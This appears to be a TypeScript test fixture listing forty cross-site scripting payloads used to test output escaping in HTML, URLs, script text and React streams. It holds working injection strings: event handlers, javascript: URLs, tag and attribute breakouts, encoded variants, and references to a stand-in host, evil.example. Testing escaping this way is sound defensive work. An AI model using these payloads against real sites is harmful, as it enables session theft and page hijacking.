/**
 * Forty texts that would run or become nodes wherever they were taken for HTML, for an address, for a script's text, or
 * for what React streams. Whatever element they would make is of this class; what would run says `alert`. They may be
 * ids: none is longer than 128 characters.
 */
export const INJECTED = "evil";
export const ELSEWHERE = "evil.example";

export const XSS_ADDRESSES: readonly string[] = [
  "JaVaScRiPt://%0aalert(32)",
  "data:text/html,<script class=evil>alert(33)</script>",
  "javascript:alert(31)",
  "//evil.example/x",
];

export const XSS_TEXTS: readonly string[] = [
  // As the content of an element.
  "<script class=evil>alert(1)</script>",
  "<img class=evil src=x onerror=alert(2)>",
  "<svg class=evil onload=alert(3)>",
  "<svg class=evil><script>alert(4)</script></svg>",
  '<iframe class=evil src="javascript:alert(5)"></iframe>',
  '<iframe class=evil srcdoc="<script>parent.alert(6)</script>"></iframe>',
  '<a class=evil href="javascript:alert(7)">look</a>',
  "<input class=evil autofocus onfocus=alert(8)>",
  "<details class=evil open ontoggle=alert(9)>",
  "<video class=evil><source onerror=alert(10)></video>",
  '<object class=evil data="javascript:alert(11)"></object>',
  '<embed class=evil src="javascript:alert(12)">',
  '<form class=evil action="javascript:alert(13)"><button>go</button></form>',
  "<button class=evil formaction=javascript:alert(14)>go</button>",
  '<meta class=evil http-equiv=refresh content="0;url=https://evil.example/">',
  "<base class=evil href=https://evil.example/>",
  "<link class=evil rel=stylesheet href=https://evil.example/x.css>",
  "<style class=evil>*{display:none!important}</style>",
  '<math><mi class=evil xlink:href="javascript:alert(19)">x</mi></math>',
  "<template class=evil shadowrootmode=open><img src=x onerror=alert(20)></template>",
  "<evil-element class=evil onclick=alert(21)>look</evil-element>",
  // Out of something first: an attribute, a comment, another element.
  '"><img class=evil src=x onerror=alert(22)>',
  "'><svg class=evil onload=alert(23)>",
  '" class=evil onmouseover="alert(24)',
  "' class=evil autofocus onfocus='alert(25)",
  "</script><script class=evil>alert(26)</script>",
  "</title></textarea></style><img class=evil src=x onerror=alert(27)>",
  '<noscript><p title="</noscript><img class=evil src=x onerror=alert(28)>">',
  "<!--><img class=evil src=x onerror=alert(29)>-->",
  "]]><script class=evil>alert(30)</script>",
  ...XSS_ADDRESSES,
  // Out of a script's text, and as what is decoded once too often.
  '");alert(35);//',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it would be one where it is put into one.
  "${alert(36)}`);alert(36);//",
  "\\u003cimg class=evil src=x onerror=alert(37)\\u003e",
  "&lt;img class=evil src=x onerror=alert(38)&gt;",
  "%3Cimg%20class%3Devil%20src%3Dx%20onerror%3Dalert(39)%3E",
  // What React's own stream says of a lazy part, a symbol and the like.
  '$L1"]</script><script class=evil>alert(40)</script>',
];
